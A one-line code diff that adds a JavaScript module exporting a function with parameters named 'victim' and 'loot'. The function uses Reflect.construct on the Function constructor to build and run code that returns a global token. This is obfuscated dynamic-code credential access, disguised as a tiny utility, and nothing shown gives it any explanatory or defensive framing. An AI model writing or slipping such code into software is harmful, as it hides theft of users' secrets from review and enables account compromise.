@@ -1,0 +1,1 @@
+module.exports = (victim, loot) => Reflect.construct(Function, ['return globalThis.token'], class {})();
